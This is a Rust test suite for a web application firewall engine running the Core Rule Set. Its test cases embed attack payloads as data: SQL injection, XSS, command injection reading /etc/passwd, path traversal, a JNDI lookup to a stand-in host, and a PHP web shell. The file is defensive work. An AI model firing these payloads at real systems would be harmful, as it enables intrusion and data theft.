//! The engine on the real generated CRS rules: known attacks are blocked,
//! ordinary requests are not, every operator builds, and the prefilter and
//! the transformation shortcuts never change a result (checking mode over
//! the payloads of the CRS regression tests).

use crs::{Config, Engine, Request, Verdict};
use std::path::PathBuf;

const UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

struct Req {
    method: &'static str,
    uri: String,
    headers: Vec<(String, String)>,
    body: Option<Vec<u8>>,
}

impl Req {
    fn get(uri: &str) -> Req {
        Req { method: "GET", uri: uri.into(), headers: base_headers(), body: None }
    }

    fn post(uri: &str, content_type: &str, body: &[u8]) -> Req {
        let mut headers = base_headers();
        headers.push(("Content-Type".into(), content_type.into()));
        headers.push(("Content-Length".into(), body.len().to_string()));
        Req { method: "POST", uri: uri.into(), headers, body: Some(body.to_vec()) }
    }

    fn header(mut self, name: &str, value: &str) -> Req {
        self.headers.push((name.into(), value.into()));
        self
    }

    fn run(&self, engine: &mut Engine) -> Verdict {
        let headers: Vec<(&str, &str)> = self.headers.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        engine.evaluate(&Request { method: self.method, uri: &self.uri, protocol: "HTTP/1.1", headers: &headers, body: self.body.as_deref(), body_truncated: false, remote_addr: "203.0.113.9" })
    }
}

fn base_headers() -> Vec<(String, String)> {
    vec![("Host".into(), "example.com".into()), ("User-Agent".into(), UA.into()), ("Accept".into(), "text/html,application/xhtml+xml".into()), ("Accept-Language".into(), "en-US,en;q=0.9".into())]
}

fn ids(v: &Verdict) -> Vec<u32> {
    v.matches.iter().map(|m| m.id).collect()
}

fn engine(pl: u8) -> Engine {
    match Engine::new(Config { paranoia_level: pl, ..Config::default() }) {
        Ok(e) => e,
        Err(e) => panic!("{}", e),
    }
}

#[test]
fn every_operator_builds() {
    let mut e = engine(4);
    e.warm_up();
    assert!(e.operator_errors().is_empty(), "{:?}", e.operator_errors());
    assert!(e.rule_count() > 400);
}

#[test]
fn ordinary_requests_pass() {
    let mut e = engine(1);
    let form = "first_name=Mary&last_name=O%27Brien&email=mary.obrien%40example.com&phone=%2B1+%28555%29+010-2233&company=Acme+%26+Sons%2C+Ltd.&street=42+Union+Street%2C+Apt.+3&city=Z%C3%BCrich&referral=https%3A%2F%2Fexample.org%2Fblog%2Fwhy%3Futm_source%3Dnewsletter&bio=I+select+the+best+tools%2C+drop+what+doesn%27t+work+and+join+teams+that+ship.&csrf=9f2c1e0b7a6d4c3b8e1f0a9d2c7b6e5f";
    let cases = [
        Req::post("/signup?step=2", "application/x-www-form-urlencoded", form.as_bytes()).header("Cookie", "session=6b1f0e9c2d; theme=dark; consent=yes").header("Referer", "https://example.com/signup?step=1"),
        Req::get("/account/orders?page=2&sort=date&q=winter+boots").header("Cookie", "session=6b1f0e9c2d4a8f7e; csrftoken=Qx7pL2vN9mR4tY8wZ1aB3cD5eF6gH0jK; _ga=GA1.2.1234567890.1700000000; theme=dark"),
        Req::post("/api/orders", "application/json", br#"{"items":[{"sku":"A-1","qty":2}],"note":"Leave at the door, please","coupon":null}"#),
        Req::get("/"),
    ];
    for c in &cases {
        let v = c.run(&mut e);
        assert!(!v.blocked && v.anomaly_score == 0, "{} {}: {:?}", c.method, c.uri, v);
    }
}

#[test]
fn known_attacks_are_blocked() {
    let mut e = engine(1);
    let cases: Vec<(Req, u32)> = vec![
        (Req::get("/items?id=1%27%20OR%20%271%27%3D%271"), 942100),
        (Req::post("/comment", "application/x-www-form-urlencoded", b"text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"), 941100),
        (Req::post("/ping", "application/x-www-form-urlencoded", b"host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd"), 930120),
        (Req::get("/download?file=..%2F..%2F..%2Fetc%2Fpasswd"), 930100),
        (Req::post("/api/login", "application/json", br#"{"user":"admin' --","pass":"x' union select password from users--"}"#), 942100),
        (Req::get("/").header("User-Agent", "${jndi:ldap://evil.example/a}"), 944150),
        (Req::get("/?x=<?php+system($_GET['c']);+?>"), 933100),
    ];
    for (c, id) in &cases {
        let v = c.run(&mut e);
        assert!(v.blocked && v.anomaly_score >= 5, "{} {}: {:?}", c.method, c.uri, v);
        assert!(ids(&v).contains(id), "{} {}: expected {} in {:?}", c.method, c.uri, id, ids(&v));
        assert!(ids(&v).contains(&949110));
    }
}

#[test]
fn paranoia_level_and_threshold_apply() {
    // 942200 (PL2): comment/space-obfuscated injection.
    let attack = Req::get("/?q=1%27%2F**%2Funion%2F**%2Fselect");
    let mut pl1 = engine(1);
    let mut pl2 = engine(2);
    let (v1, v2) = (attack.run(&mut pl1), attack.run(&mut pl2));
    assert!(v2.anomaly_score > v1.anomaly_score, "{:?} vs {:?}", v1, v2);
    assert!(v1.matches.iter().all(|m| m.paranoia_level.map_or(true, |pl| pl <= 1)));
    let mut lenient = Engine::new(Config { anomaly_threshold: 1000, ..Config::default() }).expect("engine");
    let v = attack.run(&mut lenient);
    assert!(!v.blocked && v.anomaly_score > 0);
}

/// The shared data directory (`ARCJET_SHARED_DIR`, else `../../../shared`).
fn shared() -> PathBuf {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    std::env::var_os("ARCJET_SHARED_DIR").map_or_else(|| root.join("../../../shared"), PathBuf::from)
}

/// A YAML scalar as written after `key:` (plain, '...' or "..."), decoded
/// the way the go-ftw files use it; block scalars are left out.
fn yaml_scalar(raw: &str) -> Option<String> {
    let raw = raw.trim();
    if raw.is_empty() || raw.starts_with('|') || raw.starts_with('>') {
        return None;
    }
    if let Some(inner) = raw.strip_prefix('\'').and_then(|r| r.strip_suffix('\'')) {
        return Some(inner.replace("''", "'"));
    }
    let inner = match raw.strip_prefix('"').and_then(|r| r.strip_suffix('"')) {
        Some(i) => i,
        None => return Some(raw.to_string()),
    };
    let mut out = String::new();
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('r') => out.push('\r'),
            Some('t') => out.push('\t'),
            Some('0') => out.push('\0'),
            Some(k @ ('x' | 'u')) => {
                let n = if k == 'x' { 2 } else { 4 };
                let hex: String = chars.by_ref().take(n).collect();
                out.extend(u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32));
            }
            Some(other) => out.push(other),
            None => {}
        }
    }
    Some(out)
}

/// Every `uri:` and `data:` value of the CRS regression tests.
fn regression_payloads() -> Vec<(String, String)> {
    let dir = shared().join("data/crs/tests/regression/tests");
    let mut out = Vec::new();
    let mut stack = vec![dir.clone()];
    while let Some(d) = stack.pop() {
        let entries = std::fs::read_dir(&d).unwrap_or_else(|e| panic!("{}: {}", d.display(), e));
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
                continue;
            }
            let text = std::fs::read_to_string(&path).unwrap_or_default();
            for line in text.lines() {
                let line = line.trim_start();
                for key in ["uri:", "data:"] {
                    if let Some(rest) = line.strip_prefix(key) {
                        if let Some(v) = yaml_scalar(rest) {
                            out.push((key.trim_end_matches(':').to_string(), v));
                        }
                    }
                }
            }
        }
    }
    out
}

#[test]
fn checking_mode_finds_no_skipped_match_on_the_regression_payloads() {
    let payloads = regression_payloads();
    assert!(payloads.len() > 3000, "regression tests missing: {} payloads", payloads.len());
    let mut e = engine(4);
    e.set_verify(true);
    let mut checked = 0;
    for (kind, p) in &payloads {
        let reqs = if kind == "uri" {
            vec![Req::get(p), Req::get("/").header("Referer", p)]
        } else {
            let json = format!("{{\"a\":{}}}", serde_json::to_string(p).unwrap_or_default());
            vec![Req::post("/", "application/x-www-form-urlencoded", p.as_bytes()), Req::post("/", "application/json", json.as_bytes()), Req::get("/").header("Cookie", &format!("c={}", p))]
        };
        for r in reqs {
            r.run(&mut e);
            checked += 1;
            let v = e.violations();
            assert!(v.is_empty(), "{} payload {:?}: {:?}", kind, p, v);
        }
    }
    assert!(checked > 8000);
}

#[test]
fn hostile_sizes_complete() {
    let mut e = engine(4);
    let fragments = ["' or 1=1-- ", "<script>", "%2e%2e%2f", "&#x3c;", "\\u003c", "/*!*/", "${jndi:", ";cat /etc/passwd", "aaaaaaa", "((((", " \t\n"].map(String::from);
    for f in &fragments {
        let big = f.repeat(64 * 1024 / f.len());
        let body = format!("a={}", big);
        let t = std::time::Instant::now();
        let v = Req::post("/", "application/x-www-form-urlencoded", body.as_bytes()).header("Referer", &big).run(&mut e);
        // Reported, not asserted: timing on a shared test machine is noise.
        println!("{:?} x {}: {:.1} ms, score {}", f, big.len() / f.len(), t.elapsed().as_secs_f64() * 1e3, v.anomaly_score);
    }
}
